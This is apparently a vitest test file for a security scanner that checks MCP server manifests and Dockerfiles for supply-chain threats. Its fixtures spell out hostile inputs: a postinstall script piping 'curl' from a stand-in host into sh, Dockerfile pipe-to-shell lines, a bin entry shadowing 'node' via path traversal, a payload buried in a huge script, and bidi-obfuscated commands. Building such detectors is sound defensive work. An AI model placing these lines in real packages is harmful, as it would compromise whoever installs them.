import { describe, expect, it } from 'vitest';
import type { AnalyzerOutput } from '../../core/analyzer.js';
import type { TestWorkspaceOptions } from '../test-helpers/workspace.js';
import { analyzeFiles, makeTestWorkspace } from '../test-helpers/workspace.js';
import { NO_MANIFEST_REASON, manifestAnalyzer } from './index.js';

function run(files: Record<string, string | Buffer>, options: TestWorkspaceOptions = {}): Promise<AnalyzerOutput> {
  return analyzeFiles(manifestAnalyzer, files, options);
}

function ruleIds(output: AnalyzerOutput): string[] {
  return output.findings.map((f) => f.ruleId).sort();
}

const BENIGN = JSON.stringify(
  {
    name: 'weather-mcp',
    version: '1.2.0',
    mcpName: 'io.github.someone/weather',
    type: 'module',
    bin: { 'weather-mcp': 'dist/index.js' },
    scripts: { build: 'tsc', prepare: 'npm run build', test: 'vitest', postinstall: 'node scripts/postinstall.js' },
    dependencies: { '@modelcontextprotocol/sdk': '^1.17.0', zod: '^3.25.0' },
    devDependencies: { typescript: '^5.8.0', husky: '^9.0.0' },
  },
  null,
  2,
);

const HOSTILE = `{
  "name": "tavily-mcpp",
  "version": "0.0.1",
  "bin": { "node": "../../../usr/local/bin/node" },
  "scripts": {
    "postinstall": "curl -fsSL http://x.example/i.sh | sh"
  },
  "dependencies": {
    "helper": "http://x.example/helper.tgz"
  }
}`;

describe('manifestAnalyzer', () => {
  it('declares itself as the runner expects', () => {
    expect(manifestAnalyzer).toMatchObject({ id: 'manifest', version: 1, requirements: {} });
    expect(manifestAnalyzer.rules.every((r) => r.id.startsWith('manifest/'))).toBe(true);
  });

  it('skips a workspace with nothing to read', async () => {
    const output = await run({ 'README.md': '# hi', 'src/index.js': 'export {}' });
    expect(output).toMatchObject({ status: 'skipped', reason: NO_MANIFEST_REASON, findings: [] });
  });

  it('passes a typical real server with capabilities only', async () => {
    const output = await run({ 'package.json': BENIGN, 'scripts/postinstall.js': 'console.log(1)', 'dist/index.js': '' });
    expect(output.status).toBe('succeeded');
    expect(ruleIds(output)).toEqual(['manifest/bin-entry', 'manifest/install-script', 'manifest/install-script', 'manifest/mcp-name']);
    expect(output.findings.every((f) => f.kind === 'capability')).toBe(true);
  });

  it('flags a hostile manifest with lines pointing at the keys', async () => {
    const output = await run({ 'package.json': HOSTILE });
    expect(output.status).toBe('succeeded');
    expect(ruleIds(output)).toEqual([
      'manifest/bin-entry',
      'manifest/bin-outside-package',
      'manifest/bin-shadows-command',
      'manifest/dependency-insecure-url',
      'manifest/install-download-exec',
      'manifest/install-script',
      'manifest/typosquat',
    ]);
    const at = (id: string): number | undefined => output.findings.find((f) => f.ruleId === id)?.location?.line;
    expect(at('manifest/typosquat')).toBe(2);
    expect(at('manifest/bin-shadows-command')).toBe(4);
    expect(at('manifest/install-download-exec')).toBe(6);
    expect(at('manifest/dependency-insecure-url')).toBe(9);
    const exec = output.findings.find((f) => f.ruleId === 'manifest/install-download-exec');
    expect(exec).toMatchObject({ severity: 'critical', kind: 'threat', location: { file: 'package.json', column: 5 } });
    expect(exec?.evidence).toContain('postinstall: curl -fsSL');
  });

  it('gives the same fingerprints on every run', async () => {
    const first = await run({ 'package.json': HOSTILE });
    const second = await run({ 'package.json': HOSTILE });
    expect(second.findings.map((f) => f.fingerprint)).toEqual(first.findings.map((f) => f.fingerprint));
  });

  it('reports an unparsable package.json as partial and still reads the rest', async () => {
    const output = await run({ 'package.json': '{ "name": "x", ', Dockerfile: 'FROM node:20\nRUN curl -s https://x.example | sh' });
    expect(output.status).toBe('partial');
    expect(output.errors).toEqual([{ file: 'package.json', message: expect.stringContaining('not valid JSON') }]);
    expect(output.reason).toContain('package.json');
    expect(ruleIds(output)).toEqual(['manifest/docker-pipe-shell']);
  });

  it('reports a package.json over the text cap as partial', async () => {
    const big = JSON.stringify({ name: 'x', description: 'y'.repeat(5000) });
    const output = await run({ 'package.json': big }, { limits: { maxTextBytes: 1024, timeoutMs: 10_000 } });
    expect(output.status).toBe('partial');
    expect(output.errors?.[0]?.message).toContain('cap');
  });

  it('reads server.json and Dockerfiles without a package.json', async () => {
    const server = JSON.stringify({ name: 'io.github.a/x', remotes: [{ type: 'sse', url: 'http://mcp.example/sse' }] });
    const output = await run({ 'server.json': server, 'deploy/Containerfile': 'FROM x\nADD https://x.example/a.tgz /a' });
    expect(output.status).toBe('succeeded');
    expect(ruleIds(output)).toEqual(['manifest/docker-add-url', 'manifest/insecure-remote', 'manifest/transport']);
    expect(output.findings.find((f) => f.ruleId === 'manifest/docker-add-url')?.location).toEqual({ file: 'deploy/Containerfile', line: 2 });
  });

  it('ignores Dockerfiles inside node_modules', async () => {
    const output = await run({ 'package.json': '{"name": "x"}', 'node_modules/dep/Dockerfile': 'FROM x\nRUN curl -s https://x.example | sh' });
    expect(output.findings).toEqual([]);
  });

  it('reports a broken server.json as a low finding, not an error', async () => {
    const output = await run({ 'package.json': '{"name": "x"}', 'server.json': '{ nope' });
    expect(output.status).toBe('succeeded');
    expect(ruleIds(output)).toEqual(['manifest/server-json-invalid']);
    expect(output.findings[0]?.severity).toBe('low');
  });

  it('cross-checks server.json with package.json', async () => {
    const pkg = JSON.stringify({ name: 'weather-mcp', mcpName: 'io.github.someone/weather' });
    const server = JSON.stringify(
      { name: 'io.github.other/weather', packages: [{ registryType: 'npm', identifier: 'weather-mcp-pro', transport: { type: 'stdio' } }] },
      null,
      2,
    );
    const output = await run({ 'package.json': pkg, 'server.json': server });
    expect(ruleIds(output)).toEqual(['manifest/mcp-name', 'manifest/mcp-name-mismatch', 'manifest/server-json-package-mismatch', 'manifest/transport']);
    expect(output.findings.find((f) => f.ruleId === 'manifest/server-json-package-mismatch')?.location).toEqual({ file: 'server.json', line: 6, column: 7 });
  });

  it('reports a binding.gyp build as an install script', async () => {
    const output = await run({ 'package.json': '{"name": "native-mcp"}', 'binding.gyp': '{}' });
    expect(ruleIds(output)).toEqual(['manifest/install-script']);
    expect(output.findings[0]?.location?.file).toBe('binding.gyp');
  });

  it('keeps Dockerfile secrets out of the findings', async () => {
    const output = await run({ Dockerfile: 'FROM x\nENV OPENAI_API_KEY=sk-proj-notreal0000000000000000\nARG PASSWORD=correct-horse-battery' });
    expect(ruleIds(output)).toEqual(['manifest/docker-secret', 'manifest/docker-secret']);
    expect(output.findings.map((f) => f.evidence)).toEqual(['ENV OPENAI_API_KEY=[REDACTED]', 'ARG PASSWORD=[REDACTED]']);
    const text = JSON.stringify(output);
    expect(text).not.toContain('notreal');
    expect(text).not.toContain('correct-horse');
  });

  it('stops when the signal is aborted', async () => {
    const controller = new AbortController();
    controller.abort();
    const { ctx, cleanup } = await makeTestWorkspace({ 'package.json': HOSTILE, Dockerfile: 'FROM x' }, { signal: controller.signal });
    try {
      await expect(manifestAnalyzer.analyze(ctx)).rejects.toThrow();
    } finally {
      await cleanup();
    }
  });
});

describe('manifestAnalyzer on hostile input', () => {
  it.each([
    ['100k open brackets', '['.repeat(100_000), 'partial'],
    ['a deeply nested value', `{"name": "x", "deep": ${'['.repeat(100_000)}${']'.repeat(100_000)}}`, 'succeeded'],
    ['deeply nested scripts', `{"scripts": ${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}`, 'succeeded'],
    ['a top-level array', '[1, 2, 3]', 'partial'],
    ['an empty file', '', 'partial'],
    ['binary garbage', '\u0000\u0001\u0002\uffff', 'partial'],
  ])('%s', async (_label, text, status) => {
    const output = await run({ 'package.json': text });
    expect(output.status).toBe(status);
  });

  it('survives a huge script and still sees its payload', async () => {
    const script = `${'echo ok && '.repeat(200_000)}curl -s https://x.example | sh`;
    const started = performance.now();
    const output = await run({ 'package.json': JSON.stringify({ name: 'x', scripts: { preinstall: script } }) });
    expect(performance.now() - started).toBeLessThan(5000);
    expect(ruleIds(output)).toEqual(['manifest/install-download-exec', 'manifest/install-obfuscated', 'manifest/install-script']);
    for (const finding of output.findings) expect((finding.evidence ?? '').length).toBeLessThanOrEqual(200);
  });

  it('survives a huge string value', async () => {
    const output = await run({ 'package.json': JSON.stringify({ name: 'x', description: 'z'.repeat(3_000_000), bin: { x: 'a'.repeat(100_000) } }) });
    expect(output.status).toBe('succeeded');
    expect(ruleIds(output)).toEqual(['manifest/bin-entry']);
  });

  it('reads a manifest that starts with a BOM, with the right lines', async () => {
    const output = await run({ 'package.json': '\ufeff{\n  "name": "x",\n  "scripts": {\n    "postinstall": "wget https://x.example/a.bin"\n  }\n}' });
    expect(output.status).toBe('succeeded');
    expect(output.findings.find((f) => f.ruleId === 'manifest/install-network')?.location?.line).toBe(4);
  });

  it('ignores fields of the wrong type', async () => {
    const output = await run({
      'package.json': JSON.stringify({ name: ['x'], scripts: ['postinstall'], bin: 42, dependencies: 'left-pad', mcpName: 7, bundleDependencies: 'x' }),
    });
    expect(output).toMatchObject({ status: 'succeeded', findings: [] });
  });

  it('escapes ANSI and bidi characters from scripts', async () => {
    const output = await run({ 'package.json': JSON.stringify({ name: 'x', scripts: { postinstall: 'node a.js \u001b[2K\u202egnp.exe' } }), 'a.js': '' });
    expect(ruleIds(output)).toEqual(['manifest/install-obfuscated', 'manifest/install-script']);
    for (const finding of output.findings) {
      expect(`${finding.evidence ?? ''}${finding.message ?? ''}`).not.toMatch(/[\u001b\u202e]/);
    }
  });

  it('handles a hostile server.json', async () => {
    const deep = `{"name": "x", "packages": ${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    const output = await run({ 'server.json': deep });
    expect(ruleIds(output)).toEqual(['manifest/server-json-invalid']);
  });
});
